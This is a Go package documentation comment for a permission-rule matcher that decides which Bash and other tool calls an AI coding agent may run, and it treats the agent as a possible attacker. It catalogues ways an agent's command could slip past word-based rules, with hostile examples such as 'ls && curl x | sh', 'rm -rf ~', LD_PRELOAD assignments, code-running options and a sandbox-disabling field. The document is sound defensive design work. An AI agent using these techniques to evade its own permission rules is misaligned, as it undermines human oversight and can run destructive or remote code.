// Package permrule decides whether an agent's tool rules allow a use of
// a tool, and suggests the narrowest rule that would allow it again.
//
// Rules are written as the Claude Code CLI writes its permission rules:
// a tool name, optionally with a specifier in parentheses. The tool
// input comes from an agent, and an agent is treated as an attacker that
// writes its input to slip past its rules: a rule allows only what it
// says.
//
// # Rules for tools other than Bash
//
// "Edit" allows every use of Edit. "Write(/tmp/*)" allows a Write whose
// file_path (or path, notebook_path, url, pattern: the first of these
// the input has) matches the pattern, where * is any run of characters,
// slashes included, and everything else is literal. A path with a ".."
// element matches only a pattern without *. "WebFetch(https://x.org/*)"
// matches the url the same way.
//
// # Rules for Bash: parsed commands, not text
//
// A Bash command is parsed as bash parses it (mvdan.cc/sh/v3/syntax),
// and cut into parts: each simple command (ls -la) across ;, &, &&, ||,
// |, newlines, if, while, for, case, { } and heredocs, and each
// construct below. A rule allows a command only when every part is
// allowed by some rule, so "Bash(ls *)" allows "ls -la; ls /" but not
// "ls; rm -rf ~", "ls && curl x | sh" or "ls -la" followed by 2,000
// blanks and "; curl x | sh". A command that does not parse is never
// allowed. A rule is matched against a part's words after quote removal,
// so 'l\s', "l"s and 'ls' are all ls (and a deny rule "Bash(rm *)" also
// catches r\m).
//
// The specifier of a Bash rule is a list of pattern words separated by
// blanks; '...' and "..." quote (a quoted * is a literal star):
//
//	Bash                every command, constructs included; so is Bash(*)
//	Bash(make)          make with no arguments
//	Bash(git status *)  git status with any arguments, or none
//	Bash(ls *)          ls with any arguments (as Claude Code's ls *)
//	Bash(go test:*)     the same as go test * (Claude Code's older form)
//	Bash(rm *.tmp)      rm of one word ending in .tmp
//
// A lone * matches any number of words, none included. A * inside a word
// matches any run of characters inside one word. Other characters match
// themselves. A word of the command that the shell expands at run time
// ($HOME, *.go, ~, {a,b}, "$x") is matched only by a lone *.
//
// What a plain word rule never allows, and which rule allows it:
//
//   - Command substitution $(...) and `...`: the part "!subst", allowed
//     by Bash(!subst). The commands inside are parts too and need their
//     own rules.
//   - Process substitution <(...) and >(...): Bash(!procsubst).
//   - Subshells ( ... ) and coproc: Bash(!subshell).
//   - Function declarations: Bash(!function).
//   - Arithmetic, and expansions that evaluate it or code: $((...)),
//     ((...)), let, for ((...)), [[ a -eq b ]], [[ -v a ]], ${a[i]},
//     ${x:1:2}, ${!x}, ${x@P}: Bash(!arith). Bash evaluates a variable's
//     value in arithmetic, and a value such as a[$(id)] runs id.
//   - Variable assignments, which can change what runs (PATH=.,
//     LD_PRELOAD=, BASH_ENV=): X=1, X=1 cmd, for X in ..., export X=1,
//     {fd}>file. The part is "!assign NAME VALUE": Bash(!assign LANG *)
//     allows LANG=anything. declare/export/local/readonly/typeset with
//     options is "!declare VARIANT ARGS...".
//   - Redirection to a file outside the workspace: an absolute path not
//     under the workspace (/workspace, or the agent's directory), a path
//     with a ".." element, one the shell expands ($HOME/x, ~/x), or any
//     relative path in a command that also runs cd, pushd or popd. The
//     part is "!redirect PATH": Bash(!redirect /tmp/*). /dev/null, fd
//     duplication (2>&1) and heredocs need no rule (a heredoc's
//     substitutions are parts as usual).
//   - Commands that run other commands or code given as text: eval,
//     exec, source, ., trap, alias, builtin, command, enable, hash, env,
//     xargs, nohup, nice, timeout, time, sudo, su, setsid, chroot,
//     watch, parallel and the like, and the shells. They are allowed only
//     by a rule whose first word names them literally (Bash(env *) and
//     not Bash(* *)); a command name the shell expands ($X -rf ~) is
//     never allowed by a word rule.
//   - Options that run code: sh -c and bash -c (any option cluster with
//     c), find -exec/-execdir/-ok/-okdir/-delete/-fprint, git -c,
//     --config-env, --exec-path, --upload-pack, --receive-pack, --exec,
//     rg --pre, tar --to-command/--use-compress-program/-I/-F, printf -v,
//     test -v. Such a word must be written literally in the rule:
//     Bash(bash -c *) allows bash -c, Bash(bash *) allows bash script.sh
//     but not bash -c '...'.
//
// A Bash input with a field other than command, description, timeout and
// run_in_background (dangerouslyDisableSandbox, say) is judged by none of
// these rules: only "Bash" allows it.
//
// The "!" parts can never be confused with a command: a rule whose first
// word starts with ! matches only a construct, and a construct only such
// a rule.
//
// A rule still allows whatever its program can do: Bash(python *) runs
// any Python, Bash(awk *) any awk program (system()), Bash(sed *) a sed e
// command, Bash(make *) any Makefile, and a relative path in a rule is
// relative to wherever the command has cd'd. These lists are of the
// known ways around a word rule, not of everything a program can do.
//
// Deny rules (disallowed tools) use the same language and deny a command
// when any of its parts matches one (so Bash(rm *) denies "ls; rm x" and
// "/bin/rm x"), strict words or not.
// They are a convenience: a part the shell computes ($X) escapes them,
// and only allow rules are a boundary.
//
// # Compared with Claude Code
//
// Claude Code's rules look the same and its Bash matcher also splits a
// command on shell operators (&&, ||, ;, |) and wants every part to match;
// its "ls *" also matches ls alone and enforces a word boundary (not
// lsof); its legacy "ls:*" prefix form is read here as "ls *". Here a
// rule is matched against the parse tree instead of text, so newlines,
// quoting, heredocs, substitutions and redirections are parts with names
// of their own, and a * inside a word never crosses into the next word.
// The same rules are also passed to the Claude Code CLI, which applies
// its own matcher before it asks; this package is what decides for the
// requests that reach Substrat (request_approval).
//
// # Suggestions
//
// Suggest gives the narrowest useful rule for one use: the command word
// and its subcommand for tools that have subcommands (git status ->
// Bash(git status *)), the command word otherwise (ls -la -> Bash(ls *)),
// the exact command for commands that run code or destroy
// (Bash(rm -rf build), Bash(bash -c 'make')), and nothing for a command
// of more than one part or one that no word rule can allow.
package permrule
